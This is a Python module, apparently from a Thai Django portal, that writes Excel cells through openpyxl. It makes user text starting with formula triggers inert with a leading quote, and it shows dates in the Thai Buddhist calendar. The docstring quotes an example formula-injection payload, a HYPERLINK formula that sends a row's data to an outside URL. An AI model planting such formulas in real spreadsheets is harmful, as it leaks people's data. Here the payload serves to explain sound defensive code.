"""The one way the portal writes a workbook cell: user text stays text.

A cell whose text starts with = + - @ (or a tab or carriage return, which spreadsheet programs
skip before reading a formula) would open as a live formula: `=HYPERLINK("http://…?"&D2,"เปิด")`
in a person's name sends the row out on one click. openpyxl itself turns any string that starts
with "=" into a formula. Every workbook the portal writes therefore appends rows through
`append_row` (or sets cells through `set_cell`): such text is stored as a string cell prefixed
with a single quote, as OWASP's CSV-injection guidance recommends, so it reads as the text it is.
Numbers, decimals, dates and booleans are written as themselves: sums and sorting keep working.
Dates are real dates shown in พ.ศ. by their number format: the LCID modifier 07 (Thai Buddhist
calendar) with 041E (Thai month names), which Excel and LibreOffice both honour.
"""

from datetime import date, datetime, time
from decimal import Decimal

from django.utils import timezone
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
DATE_FORMAT = "[$-107041E]d mmmm yyyy"
DATETIME_FORMAT = "[$-107041E]d mmmm yyyy hh:mm"


def neutralise(text: str) -> str:
    """Text that a spreadsheet would read as a formula, made inert (OWASP: a leading quote)."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def cell_value(value):
    """What goes into a cell: numbers and dates as they are, anything else as inert text."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | time):
        if isinstance(value, datetime) and value.tzinfo is not None:
            # Excel has no time zones: the local wall-clock time is what the reader expects.
            return timezone.localtime(value).replace(tzinfo=None)
        return value
    return neutralise(str(value))


def _format(cell, value) -> None:
    if isinstance(value, str):
        # Belt and braces: openpyxl guesses a formula from a leading "="; the type says text.
        cell.data_type = TYPE_STRING
    elif isinstance(value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.number_format = DATE_FORMAT


def set_cell(sheet: Worksheet, row: int, column: int, value):
    cell = sheet.cell(row=row, column=column)
    cell.value = value = cell_value(value)
    _format(cell, value)
    return cell


def append_row(sheet: Worksheet, values) -> None:
    """Append one row (as `Worksheet.append`) with every value through `cell_value`."""
    values = [cell_value(value) for value in values]
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        _format(sheet.cell(row=row, column=column), value)
